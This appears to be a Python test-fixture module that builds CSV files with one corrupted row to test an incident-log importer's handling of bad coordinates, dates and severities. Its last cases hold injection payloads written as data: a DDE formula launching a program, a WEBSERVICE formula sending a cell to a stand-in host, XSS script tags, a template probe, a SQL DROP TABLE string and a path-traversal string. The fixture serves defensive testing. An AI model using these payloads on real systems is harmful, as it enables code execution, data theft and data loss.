"""Values that cannot be: one row is spoilt, all the others are records."""

from __future__ import annotations

import datetime as dt

from support.corpus.case import NAMES, SPOILT, Case, csv_cells, good_row, good_rows, lines

ROW = good_row(SPOILT)


def with_cells(**cells: str) -> Case:
    """CSV whose spoilt row has these cells; no fault is expected yet."""
    table = [csv_cells(row) for row in good_rows()]
    for name, value in cells.items():
        table[SPOILT - 1][NAMES.index(name)] = value
    return Case(file="log.csv", write=lines([";".join(row) for row in [NAMES, *table]]))


def bad(field: str, reason: str, **cells: str) -> Case:
    """CSV whose spoilt row is refused for one reason."""
    return _with(with_cells(**cells), faults=((SPOILT, field, reason),))


def fine(told: dict[str, object], **cells: str) -> Case:
    """CSV whose spoilt row is odd and still a record."""
    return _with(with_cells(**cells), changed={ROW.name: told})


def _with(case: Case, **keys: object) -> Case:
    return Case(file=case.file, write=case.write, **keys)


def pair(x: str, y: str, reason: str) -> Case:
    """Spoilt coordinates that are numbers."""
    return bad("coordinates", reason, X=x, Y=y)


def formula(value: str) -> Case:
    """Text that a spreadsheet program would run."""
    return fine({"address": value}, ADRESSE=value)


def utc(*parts: int) -> dict[str, object]:
    """A start in UTC."""
    return {"started_at": dt.datetime(*parts, tzinfo=dt.UTC)}


LOST = "outside_crs_area"

VALUES: dict[str, Case] = {
    "a coordinate that is no number": bad("x", "invalid_coordinates", X="NaN"),
    "a coordinate without end": bad("y", "invalid_coordinates", Y="inf"),
    "a coordinate without end, in words": bad("x", "invalid_coordinates", X="-Infinity"),
    "a coordinate beyond all numbers": bad("x", "invalid_coordinates", X="1e400"),
    "a coordinate of four hundred digits": bad("x", "invalid_coordinates", X="9" * 400),
    "a coordinate in hexadecimal": bad("x", "invalid_coordinates", X="0x1A"),
    "a coordinate with two commas": bad("x", "invalid_coordinates", X="893,500,25"),
    "half a position": bad("coordinates", "incomplete_coordinates", X=""),
    "a position at zero": pair("0", "0", "zero_coordinates"),
    "swapped axes": pair(f"{ROW.y}", f"{ROW.x}", "swapped_axes"),
    "a decimal comma that was lost": pair(f"{ROW.x:.2f}".replace(".", ""), f"{ROW.y:.2f}".replace(".", ""), LOST),
    "degrees among metres": pair("5,37", "43,29", LOST),
    "metres of another system": pair("1893500,25", "3125000,75", LOST),
    "the largest number": pair("1e308", "1e308", LOST),
    "year 0000": bad("started_at", "invalid_date", MOMENT="0000-05-15 10:20:00"),
    "year 0024": bad("started_at", "invalid_date", MOMENT="0024-05-15 10:20:00"),
    "year 1066": bad("started_at", "invalid_date", MOMENT="1066-10-14 09:00:00"),
    "year 1804": bad("started_at", "impossible_date", MOMENT="1804-12-02 10:00:00"),
    "year 9999": bad("started_at", "invalid_date", MOMENT="9999-12-31 23:59:59"),
    "year 12024": bad("started_at", "invalid_date", MOMENT="12024-05-15 10:20:00"),
    "31 February": bad("started_at", "invalid_date", MOMENT="2024-02-31 10:20:00"),
    "29 February of a common year": bad("started_at", "invalid_date", MOMENT="2023-02-29 10:20:00"),
    "a quarter past sixty-one": bad("started_at", "invalid_date", MOMENT="2024-05-15 25:61:00"),
    "seconds since 1970": bad("started_at", "invalid_date", MOMENT="1715768400"),
    "a date of a spreadsheet as a number": bad("started_at", "invalid_date", MOMENT="45427,4305"),
    "a date in letters": bad("started_at", "invalid_date", MOMENT="15 mai 2024"),
    "a date in another order": bad("started_at", "invalid_date", MOMENT="05/15/2024 10:20"),
    "no date": bad("started_at", "missing_date", MOMENT=""),
    "an hour that clocks skip": fine(utc(2024, 3, 31, 1, 30), MOMENT="2024-03-31 02:30:00"),
    "an hour that clocks show twice": fine(utc(2024, 10, 27, 0, 30), MOMENT="2024-10-27 02:30:00"),
    "an offset of the clock": fine(utc(2024, 10, 27, 1, 30), MOMENT="2024-10-27T02:30:00+01:00"),
    "an offset beyond all clocks": bad("started_at", "invalid_date", MOMENT="2024-10-27T02:30:00+99:00"),
    "no code": bad("category", "missing_category", CODE=""),
    "a severity that is none": bad("severity", "invalid_number", GRAVITE="grave"),
    "a severity with a fraction": bad("severity", "invalid_number", GRAVITE="1,5"),
    "a severity out of range": bad("severity", "out_of_range", GRAVITE="-1"),
    "a severity beyond all numbers": bad("severity", "invalid_number", GRAVITE="1e999"),
    "a formula that runs a program": formula("=CMD|'/c calc'!A0"),
    "a formula that fetches": formula('=WEBSERVICE("http://x.example/"&A1)'.replace('"', "'")),
    "a formula with a plus": formula("+1+1"),
    "a formula with a minus": formula("-2+3"),
    "a formula with an at": formula("@SUM(1;9)".replace(";", ":")),
    "a formula after a tab": formula("x\t=1+1"),
    "a formula as a code": fine({"source_code": "=1+1", "category": "unmapped"}, CODE="=1+1"),
    "a page's script": formula("<script>alert(1)</script> rue"),
    "a script that closes another": formula("</script><img src=x onerror=alert(1)>"),
    "a template": formula("{{ 7*7 }} {% raw %}"),
    "a statement of SQL": formula("'); DROP TABLE incidents;--".replace(";", ",")),
    "a path": formula("../../../etc/passwd"),
}
"""One row of a CSV file is spoilt."""
